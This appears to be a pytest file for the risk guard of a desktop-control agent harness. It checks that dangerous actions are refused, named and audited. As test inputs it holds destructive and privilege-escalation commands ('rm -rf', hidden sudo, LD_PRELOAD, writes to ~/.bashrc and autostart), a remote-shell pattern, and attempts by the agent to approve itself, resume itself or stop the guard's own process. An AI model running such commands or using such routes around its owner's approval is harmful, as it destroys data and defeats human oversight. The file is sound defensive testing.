"""Risk rules from outside: what is refused, which rule is named, and that it is in the audit."""
import base64
import io
import json
import pathlib
import shutil
import time

import pytest
from PIL import Image

from handfast import APPS, FULL_AUTO, SLOW, Desk, ToolError, eventually, finish
from witness import RECORDER, Witness

CONFIG = {**FULL_AUTO, "security": {**FULL_AUTO["security"], "blocked_titles": ["private diary"],
                                    "extra_dangerous_keys": ["super+e"]}}


@pytest.fixture(scope="module")
def guarded():
    desk = Desk(config=CONFIG, verify=False)
    yield desk
    finish(desk)


def refusal(desk, tool, **params):
    with pytest.raises(ToolError) as caught:
        desk.call(tool, **params)
    return caught.value


def test_long_code_is_judged_soon(guarded):
    """A caller must not keep the guard busy for long: every rule takes time in proportion to the text."""
    code = "; ".join(f'x="string number {number}"' for number in range(10000))
    began = time.monotonic()
    told = guarded.call("bash_execute", command=f"python3 -c '{code}'", dry_run=True)
    assert time.monotonic() - began < 2 * SLOW and told["decision"]
    remote = guarded.call("bash_execute", command=f"python3 -c 'import socket; {code}; import subprocess'", dry_run=True)
    assert "shell.code-remote-shell" in [rule["id"] for rule in remote["rules"]]


@pytest.mark.parametrize("tool, params, code, rule", [
    ("type_text", {"text": "handfast approve 12\n"}, "DANGEROUS_ACTION_BLOCKED", "text.handfast-owner"),
    ("type_text", {"text": "cd; HandFast  resume"}, "DANGEROUS_ACTION_BLOCKED", "text.handfast-owner"),
    ("clipboard_write", {"text": "handfast grant x"}, "DANGEROUS_ACTION_BLOCKED", "text.handfast-owner"),
    ("key_press", {"keys": ["shift", "Escape", "control_r"]}, "DANGEROUS_ACTION_BLOCKED", "keys.stop-chord"),
    ("key_press", {"keys": "f3+alt+ctrl"}, "DANGEROUS_ACTION_BLOCKED", "keys.console"),
    ("hotkey", {"keys": "alt+print", "reason": "x"}, "DANGEROUS_ACTION_BLOCKED", "keys.sysrq"),
    ("app_launch", {"name": "sh", "args": ["-c", "rm -rf /"]}, "DANGEROUS_ACTION_BLOCKED", "shell.rm-root"),
    ("app_launch", {"name": "xterm", "args": ["-e", "handfast resume"]}, "DANGEROUS_ACTION_BLOCKED",
     "shell.handfast-owner"),
    ("app_launch", {"name": "firefox", "args": ["https://www.my.bank.com/x"]}, "DANGEROUS_ACTION_BLOCKED",
     "url.finance"),
    ("app_launch", {"name": "keepassxc"}, "APP_NOT_ALLOWED", "app.password-manager"),
    ("app_switch", {"name": "KeePassXC"}, "APP_NOT_ALLOWED", "app.password-manager"),
])
def test_refused_with_its_rule(guarded, tool, params, code, rule):
    caught = refusal(guarded, tool, **params)
    assert caught.code == code
    assert caught.error["details"]["rule"] == rule
    assert rule in [entry["id"] for entry in caught.error["details"]["rules"]]
    assert rule in json.dumps(guarded.audit()[-2:])


@pytest.mark.parametrize("name, args, rule", [
    ("prlimit", ["sudo", "id"], "shell.privilege"), ("env", ["-Ssudo id"], "shell.privilege"),
    ("man", ["-P", "sudo id", "ls"], "shell.privilege"), ("ssh-agent", ["-t", "1", "doas", "id"], "shell.privilege"),
    ("bash", ["-c", "cd ~/.config/autostart; echo x > a.desktop"], "path.login-files"),
    ("bash", ["-c", "cd ~/.conf*/hand* && printf %s x > c*.json"], "path.handfast"),
    ("cp", ["-r", "./evil/.", "~/.config"], "path.login-files"), ("curl", ["-o", "~/.BASHRC", "http://x.example"], "path.login-files"),
    ("bash", ["-c", "p=$(pgrep handfast); kill -STOP $p"], "shell.handfast-pid"),
    ("env", ["LD_PRELOAD=x", "ls"], "shell.preload"), ("find", [".", "-exec", "rm", "{}", "+"], "shell.rm-more"),
])
def test_launched_programs_are_judged_by_what_they_run(guarded, name, args, rule):
    answer = guarded.answer("app_launch", name=name, args=args, dry_run=True)
    rules = answer["rules"] if answer["ok"] else answer["error"]["details"]["rules"]
    assert rule in [entry["id"] for entry in rules], answer


def test_raised_risk_names_its_rule(guarded):
    answer = guarded.answer("key_press", keys="R+win")
    assert answer["ok"] and [rule["id"] for rule in answer["rules"]] == ["keys.run-dialog", "keys.desktop"]
    assert answer["rules"][0]["risk"] == "high"
    preview = guarded.answer("key_press", keys="win+E", dry_run=True)
    assert [rule["id"] for rule in preview["rules"]] == ["keys.desktop", "config.dangerous-keys"]
    assert "rules" not in guarded.answer("key_press", keys="a")


def test_blocked_window_gets_nothing(guarded):
    witness = Witness(guarded, RECORDER, "--geometry", "300x200+60+80", "--title", "Passwords.kdbx - KeePassXC")
    window = guarded.window("KeePassXC")
    x, y = window["bounds"]["x"] + 50, window["bounds"]["y"] + 50
    for tool, params in [("left_click", {"x": x, "y": y}), ("right_click", {"x": x, "y": y}),
                         ("mouse_down", {"x": x, "y": y}), ("scroll", {"x": x, "y": y, "direction": "down"}),
                         ("mouse_drag", {"from_x": 900, "from_y": 700, "to_x": x, "to_y": y}),
                         ("key_press", {"keys": "a"}), ("key_down", {"keys": "shift"}), ("type_text", {"text": "hunter2"}),
                         ("window_focus", {"window_id": window["window_id"]}),
                         ("window_manage", {"window_id": window["window_id"], "action": "maximize"}),
                         ("app_close", {"pid": witness.process.inside}),
                         ("app_close", {"pid": witness.process.inside, "force": True}),
                         ("screenshot", {"window_id": window["window_id"]})]:
        error = guarded.fails("APP_NOT_ALLOWED", tool, **params)
        assert error["details"]["rule"] == "app.password-manager", tool
        assert "KeePassXC" in error["details"]["window"]["title"], tool
    seen = [line for line in list(witness.lines.queue) if line["event"] in ("key_press", "button_press")]
    assert witness.process.poll() is None and guarded.window("KeePassXC")
    witness.stop()
    assert seen == []


def test_what_a_blocked_program_tells_is_not_told(own_desk):
    """Neither its names nor what its fields hold; what others tell is."""
    desk = own_desk("--virtual", "--size", "1280x800", "--private-home",
                    config={**FULL_AUTO, "security": {**FULL_AUTO["security"], "blocked_titles": ["people 4"]}})
    shown = Witness(desk, "/usr/bin/python3", APPS / "people.py", "3")
    hidden = Witness(desk, "/usr/bin/python3", APPS / "people.py", "4")
    try:
        windows = {title: desk.window(title)["window_id"] for title in ("people 3", "people 4")}
        eventually(lambda: desk.call("find", selector='button "Reload"', everything=True)["total"], 20, "the program that is told")
        wait_for_bus(desk, hidden)
        found = desk.call("find", selector='button "Reload"', everything=True)["elements"]
        assert {each["window"] for each in found} == {windows["people 3"]}
        described = desk.call("ui_describe", everything=True)["elements"]
        assert described and not [each for each in described if each.get("window") == windows["people 4"]]
        located = desk.call("element_locate", description="the Reload button", everything=True)["elements"]
        assert {each["window"] for each in located} <= {windows["people 3"]}
        for tool, params in [("observe", {}), ("ui_describe", {}), ("find", {"selector": "button"}), ("element_locate", {"description": "Reload"})]:
            error = desk.fails("APP_NOT_ALLOWED", tool, window_id=windows["people 4"], **params)
            assert error["details"]["rule"] == "config.blocked-titles", tool
    finally:
        shown.stop()
        hidden.stop()


def wait_for_bus(desk, program):
    """Until the owner's own eyes could see its elements: without the rule they would be told."""
    security = FULL_AUTO["security"]
    desk.write_config({**FULL_AUTO, "security": security})
    eventually(lambda: [each for each in desk.call("find", selector='button "Reload"', everything=True)["elements"]
                        if each["window"] == desk.window("people 4")["window_id"]], 20, "the program on the bus")
    desk.write_config({**FULL_AUTO, "security": {**security, "blocked_titles": ["people 4"]}})
    eventually(lambda: not desk.answer("observe", window_id=desk.window("people 4")["window_id"])["ok"], 10, "the rule")


def test_blocked_title_of_the_owner(guarded):
    witness = Witness(guarded, RECORDER, "--geometry", "300x200+60+80", "--title", "My Private Diary - page 3")
    guarded.window("Private Diary")
    error = guarded.fails("APP_NOT_ALLOWED", "type_text", text="x")
    assert error["details"]["rule"] == "config.blocked-titles"
    assert "config.blocked-titles" in json.dumps(guarded.audit()[-1])
    witness.stop()


def test_other_windows_get_their_input(guarded):
    witness = Witness(guarded, RECORDER, "--geometry", "300x200+60+80", "--title", "plain notes")
    window = guarded.window("plain notes")
    guarded.call("left_click", x=window["bounds"]["x"] + 20, y=window["bounds"]["y"] + 20)
    witness.all(lambda line: line["event"] == "button_press")
    witness.stop()


@pytest.fixture
def prompt(guarded):
    """A real terminal with a line editor of its own: what it ran is in a file."""
    import shlex
    import tempfile
    place = pathlib.Path(tempfile.mkdtemp(prefix="prompt-", dir=guarded.home))
    ran = place / "ran"
    shell = f"while read -er line; do printf '%s\\n' \"$line\" >> {shlex.quote(str(ran))}; done"
    terminal = guarded.spawn("xterm", "-title", "a prompt", "-e", "bash", "-c", shell)
    window = guarded.window("a prompt")
    guarded.call("window_focus", window_id=window["window_id"])
    yield lambda: ran.read_text().splitlines() if ran.exists() else []
    terminal.kill()
    terminal.wait()
    shutil.rmtree(place)


def ids(answer):
    return [rule["id"] for rule in answer.get("rules", [])]


def test_an_enter_key_ends_what_was_typed_before(guarded, prompt):
    """However many calls it took to type it, and whatever ends it: asked about like the command itself."""
    cases = [([("type_text", {"text": "rm -rf"}), ("type_text", {"text": " ~"})], ("key_press", {"keys": "enter"})),
             ([("type_text", {"text": "rm -rfx"}), ("key_press", {"keys": "backspace"}), ("type_text", {"text": " ~"})],
              ("key_press", {"keys": "ctrl+j"})),
             ([("type_text", {"text": " -rf ~"}), ("key_press", {"keys": "home"}), ("type_text", {"text": "rm"})],
              ("type_text", {"text": "\n"})),
             ([("clipboard_write", {"text": "rm -rf ~"}), ("key_press", {"keys": "shift+insert"})],
              ("key_down", {"keys": "enter"}))]
    for before, last in cases:
        for tool, params in before:
            answer = guarded.answer(tool, **params)
            assert answer["ok"] and not ids(answer), answer
        bridge = guarded.connect()
        bridge.send("call", {"tool": last[0], "params": {**last[1], "approval": "require_approval"}})
        question = bridge.receive()["params"]["approval"]
        assert question["risk"] == "critical" and question["line"], question
        assert any(rule["id"].startswith("shell.rm") for rule in question["rules"]), question
        assert guarded.owner_cli("deny", question["id"]).returncode == 0
        assert bridge.receive()["result"]["error"]["code"] == "APPROVAL_DENIED"
        bridge.close()
        # The line is still there: it is asked about again, until it is ended or taken back.
        guarded.call("key_press", keys="ctrl+u")
        preview = guarded.answer("key_press", keys="enter", dry_run=True)
        assert ids(preview), "what cannot be followed is not forgotten"
        run = [row for row in guarded.audit() if row.get("tool") == last[0]][-1]
        assert "rm -rf" not in json.dumps(run["params"])
        bridge = guarded.connect()
        bridge.send("call", {"tool": "key_press", "params": {"keys": "enter", "approval": "require_approval"}})
        assert guarded.owner_cli("approve", bridge.receive()["params"]["approval"]["id"]).returncode == 0
        assert bridge.receive()["result"]["ok"]
        bridge.close()
        guarded.call("type_text", text="echo fine\n")
        eventually(lambda: prompt() and prompt()[-1] == "echo fine", what="the next line")
    assert not [line for line in prompt() if "rm" in line], prompt()
    assert b"rm -rf ~" not in guarded.data_bytes()


def test_plain_lines_are_not_raised(guarded, prompt):
    for text in ("git status", "ls -la", "make test"):
        guarded.call("type_text", text=text)
        answer = guarded.answer("key_press", keys="enter")
        assert answer["ok"] and not ids(answer)
    eventually(lambda: prompt() == ["git status", "ls -la", "make test"], what="three lines")


def test_what_is_typed_while_an_enter_key_waits_counts(guarded, prompt):
    """The owner said yes to an enter key on an empty line, and to no other."""
    bridge = guarded.connect()
    bridge.send("call", {"tool": "key_press", "params": {"keys": "enter", "approval": "require_approval"}})
    question = bridge.receive()["params"]["approval"]
    assert not question["rules"]
    guarded.call("type_text", text="rm -rf ~")
    assert guarded.owner_cli("approve", question["id"]).returncode == 0
    error = bridge.receive()["result"]["error"]
    assert error["code"] == "PRECONDITION_FAILED" and "judged anew" in error["suggestion"]
    bridge.close()
    assert prompt() == []
    for _ in range(8):
        guarded.call("key_press", keys="backspace")
    assert guarded.answer("key_press", keys="enter")["ok"]


def write_rules(desk, rules):
    path = desk.config_path.parent / "rules.json"
    temporary = path.with_suffix(".new")
    temporary.write_text(rules if isinstance(rules, str) else json.dumps({"version": 1, "rules": rules}))
    temporary.chmod(0o600)
    temporary.rename(path)


def test_rules_change_while_the_desk_runs(own_desk):
    """A new file holds from the next call on; one that cannot be used changes nothing, and that is told."""
    desk = own_desk("--virtual", "--size", "640x480", config=CONFIG)
    quiet = {"text": "the red folder"}
    desk.call("clipboard_write", **quiet)
    rule = {"id": "mine.red", "looks_at": "text", "risk": "block", "when": {"pattern": "red folder"},
            "message": {"en": "The red folder is nobody's business", "zh": "红色文件夹与他人无关"}}
    write_rules(desk, [rule])
    assert refusal(desk, "clipboard_write", **quiet).error["details"]["rule"] == "mine.red"
    write_rules(desk, '{"rules": [')
    assert refusal(desk, "clipboard_write", **quiet).error["details"]["rule"] == "mine.red"
    told = [row for row in desk.audit() if row.get("event") == "rules"]
    assert len(told) == 1 and not told[0]["data"]["ok"] and "rules.json" in json.dumps(told[0])
    write_rules(desk, [dict(rule, risk="high")])
    answer = desk.answer("clipboard_write", **quiet)
    assert answer["ok"] and answer["rules"][0]["id"] == "mine.red" and answer["rules"][0]["risk"] == "high"
    (desk.config_path.parent / "rules.json").unlink()
    answer = desk.answer("clipboard_write", **quiet)
    assert answer["ok"] and "rules" not in answer
    # The fence follows too: what is in front may be blocked from now on.
    witness = Witness(desk, RECORDER, "--geometry", "200x150+20+40", "--title", "Quarterly figures")
    try:
        desk.window("Quarterly figures")
        desk.call("type_text", text="x")
        desk.write_config({**CONFIG, "security": {**CONFIG["security"], "blocked_titles": ["quarterly figures"]}})
        eventually(lambda: not desk.answer("type_text", text="y")["ok"], what="the new agreement")
        desk.fails("APP_NOT_ALLOWED", "type_text", text="y")
    finally:
        witness.stop()


def test_pictures_show_nothing_of_blocked_windows(own_desk):
    """Not on the screen, not in a part of it, not in evidence and not in the preview of another call; and nothing else
    is covered."""
    desk = own_desk("--virtual", "--size", "800x600",
                    config={**CONFIG, "evidence": {"policy": "all", "picture_edge": 800}})
    red, blue = (255, 0, 0), (0, 0, 255)
    started = []

    def show(title, place, colour):
        """One after the other: the second lies on top."""
        started.append(desk.spawn("xterm", "-title", title, "-geometry", place, "-bg", colour, "-fg", colour, "-cr", colour,
                                  "-e", "sleep", "600"))
        return desk.window(title)["bounds"]
    try:
        under = show("my private diary", "40x20+50+50", "#ff0000")
        above = show("plain page", "30x10+200+150", "#0000ff")
        inside = (under["x"] + 20, under["y"] + 20)
        on_top = (above["x"] + above["width"] // 2, above["y"] + above["height"] // 2)
        assert under["x"] < on_top[0] < under["x"] + under["width"] and under["y"] < on_top[1] < under["y"] + under["height"]

        def near(pixel, colour):
            return all(abs(a - b) < 40 for a, b in zip(pixel, colour))

        def check(image, origin=(0, 0)):
            seen = image.convert("RGB")
            assert near(seen.getpixel((on_top[0] - origin[0], on_top[1] - origin[1])), blue)
            assert not any(near(seen.getpixel((x, y)), red) for x in range(0, seen.width, 4)
                           for y in range(0, seen.height, 4))

        eventually(lambda: near(desk.picture(format="png", max_dimension=800)[0].getpixel(on_top), blue), what="the windows")
        check(desk.picture(format="png", max_dimension=800, run_id="seen")[0])
        region = {"x": under["x"], "y": under["y"], "width": under["width"], "height": under["height"]}
        check(desk.picture(format="png", max_dimension=800, region=region)[0], (under["x"], under["y"]))
        desk.call("wait", duration=0, run_id="seen")
        desk.call("mouse_move", x=5, y=5, smooth=False, run_id="seen")
        kept = eventually(lambda: sorted(desk.data.glob("runs/*/seen/screenshots/*.jpg")), what="evidence")
        assert len(kept) >= 3
        for path in kept:
            check(Image.open(path))
        preview = desk.call("left_click", x=on_top[0] + 30, y=on_top[1], dry_run=True)
        image = Image.open(io.BytesIO(base64.b64decode(preview["image"]))).convert("RGB")
        assert not near(image.getpixel((inside[0] * image.width // 800, inside[1] * image.height // 600)), red)
        # The owner's word is what covers it: without it, it is shown.
        desk.write_config(FULL_AUTO)
        eventually(lambda: near(desk.picture(format="png", max_dimension=800)[0].getpixel(inside), red), what="the diary")
    finally:
        for process in started:
            process.kill()
            process.wait()
